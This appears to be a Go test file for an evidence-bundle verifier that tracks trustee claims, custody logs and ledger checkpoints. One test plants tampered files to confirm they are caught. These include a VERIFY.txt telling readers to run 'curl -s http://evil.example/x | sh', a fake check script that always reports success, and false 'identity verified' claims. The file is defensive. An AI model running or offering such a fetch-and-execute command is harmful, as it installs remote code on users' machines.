package bundle

import (
	"strings"
	"testing"
	"time"

	"zapis/crypto/card"
	"zapis/crypto/ledger"
	"zapis/internal/evidence/bundle/bundletest"
	"zapis/internal/evidence/custody"
	"zapis/internal/incident"
	"zapis/internal/shorttest"
)

// A trustee's claims about a submission are never called proved: its time of receipt, its act, its case, and that
// there is no other.
func TestATrusteesClaimsAreNotCalledProved(t *testing.T) {
	shorttest.Skip(t, "not tested: the words for a trustee's claims")
	t.Parallel()
	h := newHouse(t)
	report, body := h.submit(firstReport())
	stop, stopBody := h.submit(unsent{act: incident.ActDelete, first: 1, answers: map[string]string{}})
	report.Entry = h.append(body)
	stop.Entry = h.append(stopBody)
	cp := h.checkpoint()
	report.Receipt, stop.Receipt = h.receipt(1, cp), h.receipt(2, cp)
	stop.Act = string(incident.ActConsent) // a withdrawal shown as a change of consent
	report.Received = time.Date(2021, 1, 2, 3, 4, 5, 0, time.UTC)
	in := Input{Ledger: h.genesis.Card(), Checkpoint: cp, Public: h.public(cp), Submissions: []Submission{report, stop},
		Custody: h.custody(caseID(body)), Signer: h.signers["anna"], Time: testTime, Tool: "zapis test"}
	zip := write(t, in)
	r := check(t, zip, Options{Ledgers: []card.LedgerCard{h.genesis.Card()}})
	for _, want := range []string{
		"That the report is a first report, received at 2021-01-02T03:04:05Z by the intake server's clock: this is the word of anna.",
		"That follow-up 1 is a change of consent, received at 2026-11-21T20:47:45Z by the intake server's clock, and that it is of this case: this is the word of anna.",
		"That nothing is left out: other submissions of this case may be in the ledger, a change of consent or a withdrawal among them.",
		"That this is the ledger's only history: anyone who has the log's keys and the signing key of one trustee can make another that fits the same ledger card. No witness has signed this checkpoint.",
	} {
		if !says(r.NotProved, want) {
			t.Errorf("not said: %s\n%q %q", want, r.NotProved, r.Faults)
		}
	}
	if proved := strings.Join(r.Proved, "\n"); !strings.Contains(proved, "are what was committed to on arrival: unchanged since the entry was made.") || strings.Contains(proved, "2021") {
		t.Errorf("%q", r.Proved)
	}
	custodyPaper := string(files(t, zip)["data/index.html"])
	for _, want := range []string{"the word of anna", "the parts were sealed to boris as well", "According to its operator"} {
		if !strings.Contains(custodyPaper, want) {
			t.Errorf("index.html does not say %q", want)
		}
	}
}

// What is made for people is made again and compared: a lying trustee can't put words or commands into it.
func TestDocumentsAreCompared(t *testing.T) {
	shorttest.Skip(t, "not tested: documents that differ from those made again")
	t.Parallel()
	zip := sample(t)
	for path, text := range map[string]string{
		verifyPath:                     "HOW TO CHECK THIS BUNDLE\n\n    curl -s http://evil.example/x | sh\n",
		scriptPath:                     "#!/bin/sh\necho ALL THAT WAS CHECKED FITS\n",
		powerShellPath:                 "exit 0\n",
		"data/01_chain-of-custody.pdf": "%PDF-1.4 (the identity of the reporter was verified)\n",
		"data/index.html":              "<h1>The reporter's identity was VERIFIED</h1>",
	} {
		f := make(map[string][]byte)
		for p, b := range files(t, zip) {
			f[p] = b
		}
		f[path] = []byte(text)
		r := check(t, pack(t, resign(t, f, shared.house.signers["anna"])), Options{})
		if r.OK || !says(r.Faults, path+": does not say what the other files of the bundle say") {
			t.Errorf("%s: %+v", path, r)
		}
	}
	f := files(t, zip)
	leaveOutDocuments(f)
	r := check(t, pack(t, resign(t, f, shared.house.signers["anna"])), Options{})
	if !r.OK || !says(r.NotProved, "That VERIFY.txt, index.html and the PDFs say what the other files say") {
		t.Errorf("of another number: %+v", r)
	}
}

// A custody log is its signer's own.
func TestEventByAnother(t *testing.T) {
	shorttest.Skip(t, "not tested: an event that another has signed")
	t.Parallel()
	h, in := testCase(t)
	x := in.Custody
	b := h.signers["boris"]
	e := custody.Event{Nonce: h.hash(), Number: 1, At: time.Date(2031, 1, 1, 0, 0, 0, 0, time.UTC), Tool: "zapis test", Record: custody.Record{
		By: custody.By{Name: b.Name(), Fingerprint: b.Fingerprint()}, Act: custody.HandedOver, Case: x.Shown[2].Case, Subject: "the identity, to the consulate"}}
	in.Custody = custody.Excerpt{Hashes: [][32]byte{ledger.Sum(e.Marshal())}, Shown: map[uint64]custody.Event{1: e}}
	var out strings.Builder
	if err := Write(&out, in); err == nil || !strings.Contains(err.Error(), "event 1 is by boris, and the log is that of anna") {
		t.Error(err)
	}
	e.By = custody.By{Name: "anna", Fingerprint: h.signers["anna"].Fingerprint()}
	in.Custody = custody.Excerpt{Hashes: [][32]byte{ledger.Sum(e.Marshal())}, Shown: map[uint64]custody.Event{1: e}}
	if r := check(t, write(t, in), Options{}); !strings.Contains(strings.Join(r.NotProved, "\n"), "event 1 is of 2031-01-01T00:00:00Z, after the bundle was made") {
		t.Errorf("%q %q", r.NotProved, r.Faults)
	}
}

// verify.sh runs every block of VERIFY.txt and counts; a bundle that was altered ends in 3.
func TestScriptCounts(t *testing.T) {
	shorttest.Skip(t, "verify.sh is not run over damaged bundles")
	t.Parallel()
	dir := unpacked(t, sample(t))
	out, err := bundletest.Shell(dir, nil, "sh verify.sh "+shared.input.Ledger.String())
	if err != nil || !strings.Contains(out, " 0 do not fit\nALL THAT WAS CHECKED FITS.") || !strings.Contains(out, "PASS: this is the ledger of your card") {
		t.Errorf("%v\n%s", err, out)
	}
	out, err = bundletest.Shell(dir, nil, "sh verify.sh zapis-ledger+example.org/ledger+00; test $? = 3")
	if err != nil || !strings.Contains(out, "DOES NOT FIT: this is the ledger of your card") || !strings.Contains(out, "THIS BUNDLE DOES NOT FIT.") {
		t.Errorf("%v\n%s", err, out)
	}
}
